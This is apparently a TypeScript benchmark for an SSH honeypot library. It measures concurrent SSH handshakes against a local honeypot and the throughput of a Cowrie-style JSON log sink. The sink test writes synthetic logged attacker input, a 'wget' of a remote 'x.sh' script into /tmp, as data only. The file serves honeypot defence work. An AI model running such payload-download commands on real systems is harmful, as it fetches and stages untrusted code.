import { fork } from 'node:child_process';
import { mkdtempSync, rmSync, statSync } from 'node:fs';
import { loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import ssh2 from 'ssh2';
import { buildEvent, createJsonLinesSink, DEFAULT_LIMITS, startSshService, type EventSink } from '@waggle/honeypot';
import { parseArgs, parseCount } from '../lib/args.js';
import { describeMachine, machineInfo } from '../lib/machine.js';
import { startRssSampler } from '../lib/rss-sampler.js';
import { formatTable, mib, thousands } from '../lib/table.js';

const USAGE = `usage: npm run bench -- honeypot-ssh [--concurrent 500] [--rounds 2] [--lines 200k]
  --concurrent  SSH clients connected and authenticated at the same time (default 500)
  --rounds      times the whole batch connects, is held, and disconnects (default 2)
  --lines       Cowrie JSON lines written to measure the file sink (default 200k)`;

const CLIENT_FLAG = '--ssh-bench-client';
const log = (msg: string): void => {
  process.stderr.write(`[${new Date().toISOString().slice(11, 19)}] ${msg}\n`);
};

interface ClientReport {
  ready: number;
  failed: number;
  ms: number;
  firstError?: string;
}

/**
 * Client side, run in a child process so the server's RSS and CPU are not mixed with the
 * clients': opens `count` ssh2 clients at once, waits until every one is authenticated
 * (or failed), reports, then waits for the parent's signal to disconnect them all.
 */
async function runClients(port: number, count: number): Promise<void> {
  const clients: ssh2.Client[] = [];
  const started = Date.now();
  let firstError: string | undefined;
  const outcomes = await Promise.all(
    Array.from({ length: count }, () => new Promise<boolean>((resolve) => {
      const c = new ssh2.Client();
      clients.push(c);
      c.once('ready', () => resolve(true));
      c.once('error', (e) => {
        firstError ??= e.message;
        resolve(false);
      });
      c.connect({ host: '127.0.0.1', port, username: 'root', password: 'bench', readyTimeout: 120_000 });
    })),
  );
  const report: ClientReport = { ready: outcomes.filter(Boolean).length, failed: outcomes.filter((o) => !o).length, ms: Date.now() - started };
  if (firstError !== undefined) report.firstError = firstError;
  process.send?.(report);
  process.once('message', () => {
    for (const c of clients) c.end();
    setTimeout(() => process.exit(0), 200);
  });
}

if (process.argv.includes(CLIENT_FLAG)) {
  const i = process.argv.indexOf(CLIENT_FLAG);
  void runClients(Number(process.argv[i + 1]), Number(process.argv[i + 2]));
}

function nullSink(): EventSink & { count: number } {
  return { count: 0, write() { this.count += 1; }, close: () => Promise.resolve() };
}

async function sinkThroughput(lines: number): Promise<{ linesPerSecond: number; bytes: number }> {
  const dir = mkdtempSync(join(tmpdir(), 'ssh-bench-log-'));
  const path = join(dir, 'cowrie.json');
  const sink = createJsonLinesSink(path);
  const envelope = { session: '0123456789ab', src_ip: '203.0.113.7', src_port: 50_000, dst_ip: '10.0.0.5', dst_port: 22, sensor: 'bench', protocol: 'ssh' };
  const now = new Date();
  const start = process.hrtime.bigint();
  for (let i = 0; i < lines; i += 1) {
    sink.write(buildEvent('cowrie.command.input', envelope, now, { input: `wget http://198.51.100.${i % 250}/x.sh -O /tmp/x${i}` }));
    // Let the sink's per-turn flush run now and then, as it does under a live service.
    if (i % 10_000 === 9_999) await new Promise((r) => setImmediate(r));
  }
  await sink.close();
  const seconds = Number(process.hrtime.bigint() - start) / 1e9;
  const bytes = statSync(path).size;
  rmSync(dir, { recursive: true, force: true });
  return { linesPerSecond: lines / seconds, bytes };
}

/** Benchmark area `honeypot-ssh`: concurrent SSH handshakes held by the honeypot, and JSON sink throughput. */
export async function runSshBench(argv: readonly string[]): Promise<number> {
  const { positional, named } = parseArgs(argv, new Set(['help']));
  if (named.has('help')) {
    process.stdout.write(`${USAGE}\n`);
    return 0;
  }
  const unknown = [...named.keys()].filter((k) => !['concurrent', 'rounds', 'lines'].includes(k));
  if (unknown.length > 0 || positional.length > 0) {
    process.stderr.write(`unexpected arguments: ${[...unknown.map((k) => `--${k}`), ...positional].join(' ')}\n${USAGE}\n`);
    return 2;
  }
  const value = (name: string, fallback: string): string => {
    const v = named.get(name);
    return typeof v === 'string' ? v : fallback;
  };
  const concurrent = parseCount(value('concurrent', '500'), 'concurrent');
  const rounds = parseCount(value('rounds', '2'), 'rounds');
  const lines = parseCount(value('lines', '200k'), 'lines');

  const keys = mkdtempSync(join(tmpdir(), 'ssh-bench-keys-'));
  const sink = nullSink();
  let n = 0;
  const service = await startSshService(
    { host: '127.0.0.1', port: 0, hostKeyDir: keys },
    {
      sink,
      sensor: 'bench',
      limits: { ...DEFAULT_LIMITS, maxConnections: concurrent * 2, maxConnectionsPerIp: concurrent * 2, ratePerIpPerMinute: concurrent * rounds * 10 },
      now: () => new Date(),
      sessionId: () => (n++).toString(16).padStart(12, '0'),
    },
  );
  const rss = startRssSampler(50);
  const cpuStart = process.cpuUsage();
  let peakActive = 0;
  const activeTimer = setInterval(() => {
    peakActive = Math.max(peakActive, service.stats().active);
  }, 20);
  const rows: string[][] = [];
  let totalReady = 0;
  let totalMs = 0;
  try {
    for (let round = 1; round <= rounds; round += 1) {
      log(`round ${round}: ${concurrent} clients connecting`);
      const child = fork(fileURLToPath(import.meta.url), [CLIENT_FLAG, String(service.port), String(concurrent)], { execArgv: process.execArgv });
      const report = await new Promise<ClientReport>((resolve, reject) => {
        child.once('message', (m) => resolve(m as ClientReport));
        child.once('exit', (code) => reject(new Error(`client process exited with ${code}`)));
      });
      peakActive = Math.max(peakActive, service.stats().active);
      const held = service.stats().active;
      child.send('release');
      await new Promise((r) => child.once('exit', r));
      totalReady += report.ready;
      totalMs += report.ms;
      rows.push([String(round), thousands(report.ready), thousands(report.failed), thousands(held), thousands(report.ready / (report.ms / 1000), 1), `${(report.ms / 1000).toFixed(2)} s`]);
      if (report.firstError !== undefined) log(`first client error: ${report.firstError}`);
    }
  } finally {
    clearInterval(activeTimer);
    await service.close();
    rmSync(keys, { recursive: true, force: true });
  }
  const memory = rss.stop();
  const cpu = process.cpuUsage(cpuStart);
  const cpuMsPerHandshake = (cpu.user + cpu.system) / 1000 / Math.max(1, totalReady);
  log(`writing ${lines} JSON lines`);
  const sinkFigures = await sinkThroughput(lines);

  process.stdout.write(`${describeMachine(machineInfo(process.cwd(), fileURLToPath(import.meta.resolve('@waggle/honeypot'))))}\n`);
  // Other work on the machine changes these figures a lot; the load average says how busy it was.
  process.stdout.write(`load:    ${loadavg().map((l) => l.toFixed(1)).join(' ')} (1/5/15 min)\n\n`);
  process.stdout.write('SSH honeypot: concurrent handshakes (ssh2 clients in a child process, password login to "ready")\n');
  process.stdout.write(`${formatTable(['round', 'ready', 'failed', 'held at once', 'handshakes/s', 'time'], rows)}\n`);
  process.stdout.write(`overall: ${thousands(totalReady / (totalMs / 1000), 1)} handshakes/s, peak concurrent ${thousands(peakActive)}, `);
  process.stdout.write(`server RSS ${mib(memory.startBytes)} -> peak ${mib(memory.peakBytes)} (${mib((memory.peakBytes - memory.startBytes) / Math.max(1, peakActive))}/session), events ${thousands(sink.count)}\n`);
  // Server CPU per handshake tells what the server itself costs when the machine is shared.
  process.stdout.write(`server CPU: ${cpuMsPerHandshake.toFixed(1)} ms per handshake (${thousands(1000 / cpuMsPerHandshake, 0)} handshakes/s per core if CPU-bound)\n\n`);
  process.stdout.write(`JSON-lines sink: ${thousands(lines)} Cowrie events, ${thousands(sinkFigures.linesPerSecond)} lines/s, ${mib(sinkFigures.bytes)} written\n`);
  return totalReady === concurrent * rounds ? 0 : 1;
}
